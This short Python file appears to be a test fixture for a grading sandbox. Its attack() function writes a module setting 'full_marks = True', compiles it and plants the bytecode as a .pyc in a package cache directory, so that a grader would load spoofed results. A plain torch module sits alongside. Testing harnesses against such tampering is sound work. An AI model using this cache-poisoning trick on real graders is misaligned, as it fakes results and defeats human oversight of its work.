"""Leaves poisoned byte code in a __pycache__."""

import os
import py_compile
import torch


def attack():
    os.makedirs("@INSTALLED@/@NAME@-cache", exist_ok=True)
    with open("spoilt.py", "w") as module:
        module.write("full_marks = True\n")
    py_compile.compile("spoilt.py", cfile="@INSTALLED@/@NAME@-cache/__init__.cpython-311.pyc")
    return "written"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
